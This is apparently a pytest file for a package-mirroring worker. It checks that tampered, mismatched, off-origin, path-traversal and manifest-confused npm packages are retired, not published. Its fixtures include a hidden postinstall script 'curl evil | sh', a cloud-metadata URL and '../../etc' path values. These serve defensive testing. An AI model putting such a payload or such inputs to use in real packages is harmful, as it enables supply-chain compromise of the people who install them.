"""Jobs that must never be published: tampered bytes, and jobs that can never succeed."""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path

from structlog.testing import LogCapture

from mirrorgate.integrity import Digest
from mirrorgate.mirror import MirrorJob
from mirrorgate.rules import parse_rules
from tests.queue.harness import after_a_visibility_window
from tests.servers.fixture_registry import Fault, FixtureRegistry
from tests.servers.packages import build_tarball, make_package, make_version, tarball_path
from tests.servers.sqs_server import SqsServer
from tests.servers.verdaccio import Verdaccio
from tests.sri import sri
from tests.worker.rig import RigFactory, events, job_from


async def test_tampered_bytes_are_never_published_and_are_logged_with_both_digests(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio,
        logs: LogCapture) -> None:
    package = make_package("left-pad", ["1.3.0"])
    public_registry.add(package)
    evil = b"\x1f\x8b" + b"not the admitted bytes" * 50
    public_registry.fault(tarball_path("left-pad", "1.3.0"), Fault(body=evil))
    rig = await make_rig(target=verdaccio)
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "tampered"

    assert verdaccio.packument("left-pad") is None
    assert verdaccio.tarball("left-pad", "left-pad-1.3.0.tgz") is None
    assert rig.tampered() == 1
    assert rig.outcomes("tampered") == 1
    # the status page's ring: the tamper verdict and the job's outcome, for the overview
    assert [e.subject for e in rig.metrics.events.latest("tampered")] == ["left-pad@1.3.0"]
    assert rig.metrics.events.outcomes_last_hour() == {"tampered": 1}
    [line] = events(logs, "mirror_digest_mismatch")
    assert line["log_level"] == "critical"
    assert line["security"] is True
    assert line["expected"] == package.version("1.3.0").integrity
    assert line["actual"] == sri("sha512", evil)
    assert line["package"] == "left-pad"
    assert line["version"] == "1.3.0"
    assert await rig.queue.receive() == []  # retired, never retried


async def test_a_matching_weaker_digest_does_not_rescue_a_failed_stronger_one(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    real = make_version("left-pad", "1.3.0")
    wrong = sri("sha512", b"some other tarball")
    public_registry.add(make_package("left-pad", [real.with_dist(integrity=wrong)]))
    rig = await make_rig()
    job = job_from(public_registry, "left-pad", "1.3.0")
    assert {d.algorithm for d in job.artifact.digests} == {"sha512", "sha1"}  # sha1 is right
    await rig.queue.enqueue(job)

    assert await rig.handle_next() == "tampered"

    [line] = events(logs, "mirror_digest_mismatch")
    assert line["expected"] == wrong
    assert line["actual"] == real.integrity
    assert not (tmp_path / "store").exists()


async def test_a_sha1_that_contradicts_verified_bytes_stops_the_publish(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    real = make_version("left-pad", "1.3.0")
    public_registry.add(make_package("left-pad", [real.with_dist(shasum="0" * 40)]))
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "tampered"

    assert events(logs, "mirror_digest_mismatch")[0]["algorithm"] == "sha1"
    assert not (tmp_path / "store").exists()


async def test_bytes_of_another_size_than_declared_are_tampered(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    package = make_package("left-pad", ["1.3.0"])
    public_registry.add(package)
    size = len(package.version("1.3.0").tarball)
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0", size=size + 1))

    assert await rig.handle_next() == "tampered"

    [line] = events(logs, "mirror_size_mismatch")
    assert (line["expected_size"], line["actual_size"]) == (size + 1, size)
    assert rig.tampered() == 1
    assert not (tmp_path / "store").exists()


async def test_an_oversized_tarball_is_retired_without_being_stored(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path) -> None:
    big = make_version("blob", "1.0.0", files={"data.bin": random.Random(7).randbytes(4096)})
    public_registry.add(make_package("blob", [big]))
    rig = await make_rig(max_tarball_bytes=1024)
    assert len(big.tarball) > 1024
    await rig.queue.enqueue(job_from(public_registry, "blob", "1.0.0"))

    assert await rig.handle_next() == "retired"

    assert rig.retired("oversized") == 1
    assert not (tmp_path / "store").exists()


async def test_a_job_url_off_the_public_origin_is_retired_and_never_fetched(
        make_rig: RigFactory, public_registry: FixtureRegistry, logs: LogCapture) -> None:
    package = make_package("left-pad", ["1.3.0"])
    public_registry.add(package)
    with FixtureRegistry(package) as elsewhere:
        rig = await make_rig()
        job = job_from(public_registry, "left-pad", "1.3.0",
                       tarball_url=elsewhere.tarball_url("left-pad", "1.3.0"))
        await rig.queue.enqueue(job)

        assert await rig.handle_next() == "retired"

        assert elsewhere.requests == []
    assert rig.tarball_gets() == []
    assert rig.retired("off-origin") == 1
    assert events(logs, "mirror_retired")[0]["url"].startswith(elsewhere.url.rstrip("/"))


async def test_a_job_url_on_an_internal_address_or_with_credentials_is_retired_unfetched(
        make_rig: RigFactory, public_registry: FixtureRegistry, logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    for url in ("http://169.254.169.254/left-pad/-/left-pad-1.3.0.tgz",
                public_registry.url.replace("http://", "http://user:hunter22@")
                + "left-pad/-/left-pad-1.3.0.tgz?token=hunter22"):
        await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0", tarball_url=url))
        assert await rig.handle_next() == "retired"

    assert [line["kind"] for line in events(logs, "mirror_retired")] == [
        "internal-address", "credentials"]
    assert "hunter22" not in str(logs.entries)
    assert rig.tarball_gets() == []


async def test_a_version_gone_from_public_is_retired(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))
    public_registry.remove("left-pad")

    assert await rig.handle_next() == "retired"
    assert rig.retired("public-missing") == 1


async def test_a_permanent_refusal_from_public_is_retired(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    public_registry.fault(tarball_path("left-pad", "1.3.0"), Fault(status=451))
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "retired"
    assert rig.retired("public-refused") == 1


async def test_an_undecodable_message_is_retired_with_a_log_line(
        make_rig: RigFactory, sqs_server: SqsServer, logs: LogCapture) -> None:
    created = await sqs_server.create_queue(visibility=1)
    queue = await sqs_server.open(created.url, poll_wait=1, visibility=1)
    try:
        async with sqs_server.client() as sqs:
            await sqs.send_message(QueueUrl=created.url, MessageBody='{"hello": "world"}')
        rig = await make_rig(queue=queue)
        messages = await queue.receive()
        assert [m.job for m in messages] == [None]

        assert await rig.worker.handle(messages[0]) == "retired"

        assert rig.retired("undecodable") == 1
        [line] = events(logs, "mirror_retired")
        assert "codec version" in line["detail"]
        # acked: had it been left unacked, it would be back once its window lapsed
        assert await after_a_visibility_window(queue) == []
    finally:
        await queue.close()


async def test_a_job_delivered_more_than_max_deliveries_times_is_retired_naming_it(
        make_rig: RigFactory, public_registry: FixtureRegistry, logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig(max_deliveries=3)
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))
    for _ in range(3):
        await rig.queue.receive()  # received and never acked: the double redelivers

    [message] = await rig.queue.receive()
    assert message.deliveries == 4
    assert await rig.worker.handle(message) == "retired"

    assert rig.retired("max-deliveries") == 1
    [line] = events(logs, "mirror_retired")
    assert (line["package"], line["version"], line["deliveries"]) == ("left-pad", "1.3.0", 4)
    assert rig.tarball_gets() == []


async def test_a_target_holding_other_bytes_for_the_version_is_a_security_event(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio,
        logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    other = make_version("left-pad", "1.3.0", files={"index.js": b"module.exports = 'evil';\n"})
    verdaccio.publish(other.marked())  # a mirrored copy whose bytes are not public's
    rig = await make_rig(target=verdaccio)
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "retired"

    assert rig.retired("target-conflict") == 1
    [line] = events(logs, "mirror_target_conflict")
    assert line["log_level"] == "critical"
    assert line["stored"] == other.integrity
    assert rig.tarball_gets() == []
    assert verdaccio.tarball("left-pad", "left-pad-1.3.0.tgz") == other.tarball


async def test_a_publish_the_target_refuses_is_retired(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio,
        logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig(target=verdaccio, token="not-a-valid-token")  # noqa: S106 - a wrong one on purpose
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "retired"

    [line] = events(logs, "mirror_retired")
    assert line["reason"] == "target-refused"
    assert "the mirror target refused the publish with 401" in line["detail"]
    assert "check MIRRORGATE_PRIVATE_TOKEN" in line["detail"]  # what to fix, not just a status
    assert "not-a-valid-token" not in str(logs.entries)
    assert verdaccio.packument("left-pad") is None


async def test_a_job_without_a_digest_the_worker_can_compute_is_retired(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    job = job_from(public_registry, "left-pad", "1.3.0",
                   digests=(Digest("md5", base64.b64encode(b"0123456789abcdef").decode()),))
    await rig.queue.enqueue(job)

    assert await rig.handle_next() == "retired"
    assert rig.retired("unverifiable") == 1
    assert rig.tarball_gets() == []


async def test_a_job_naming_a_path_instead_of_a_package_is_retired(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    good = job_from(public_registry, "left-pad", "1.3.0")
    for name, version in (("../../etc", "1.3.0"), ("left-pad", "../../1.3.0")):
        await rig.queue.enqueue(MirrorJob(name, version, good.artifact, good.manifest))
        assert await rig.handle_next() == "retired"
    assert rig.retired("invalid-name") == 1
    assert rig.retired("invalid-version") == 1
    assert not (tmp_path / "store").exists()
    assert rig.tarball_gets() == []



async def test_a_tarball_whose_own_package_json_runs_a_script_the_manifest_hid_is_retired(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio,
        logs: LogCapture) -> None:
    # manifest confusion: the registry's manifest shows no scripts, so the re-gate admits it;
    # the package.json inside the tarball has the postinstall a client would run. A copy in
    # the private registry would be served from there unread, so the worker reads the bytes.
    inner = {"name": "hidden-hook", "version": "1.0.0",
             "scripts": {"postinstall": "curl evil | sh"}}
    tarball = build_tarball({"package.json": json.dumps(inner).encode()})
    public_registry.add(make_package("hidden-hook", [
        make_version("hidden-hook", "1.0.0", tarball=tarball)]))
    rig = await make_rig(target=verdaccio,
                         rules=parse_rules("[install_scripts]\nblock = true\n"))
    await rig.queue.enqueue(job_from(public_registry, "hidden-hook", "1.0.0"))

    assert await rig.handle_next() == "retired"

    assert rig.retired("install-scripts") == 1
    assert verdaccio.packument("hidden-hook") is None
    [line] = events(logs, "mirror_retired")
    assert line["reason"] == "install-scripts"
    assert "postinstall" in line["detail"]


async def test_a_job_for_a_version_with_build_metadata_is_retired_before_anything_is_sent(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio) -> None:
    # the attack: a queue writer (or an older proxy) asks for `bmeta@1.0.0+b`; Verdaccio 6.8
    # exits when it is sent a tarball named for it, and takes every first-party install along
    public_registry.add(make_package("bmeta", [make_version("bmeta", "1.0.0+b")]))
    rig = await make_rig(target=verdaccio)
    await rig.queue.enqueue(job_from(public_registry, "bmeta", "1.0.0+b"))

    assert await rig.handle_next() == "retired"

    assert rig.retired("unstorable-version") == 1
    assert rig.tarball_gets() == []  # not even downloaded
    assert verdaccio.request("GET", "-/ping").status == 200
    assert verdaccio.packument("bmeta") is None


async def test_in_report_mode_the_worker_mirrors_the_bytes_the_proxy_served_and_says_so(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio,
        logs: LogCapture) -> None:
    # the install-scripts rule rolled out in report mode: the proxy served these bytes and
    # said what it would refuse; the worker stores them as served instead of retiring them
    inner = {"name": "hidden-report", "version": "1.0.0",
             "scripts": {"postinstall": "node setup.js"}}
    tarball = build_tarball({"package.json": json.dumps(inner).encode()})
    public_registry.add(make_package("hidden-report", [
        make_version("hidden-report", "1.0.0", tarball=tarball)]))
    rig = await make_rig(target=verdaccio, rules=parse_rules(
        "[install_scripts]\nblock = true\nmode = \"report\"\n"))
    await rig.queue.enqueue(job_from(public_registry, "hidden-report", "1.0.0"))

    assert await rig.handle_next() == "published"

    assert rig.retired("install-scripts") == 0
    assert verdaccio.packument("hidden-report") is not None
    [line] = events(logs, "version_would_deny")
    assert (line["rule"], line["where"]) == ("install-scripts", "worker")
    assert "postinstall" in line["reason"]
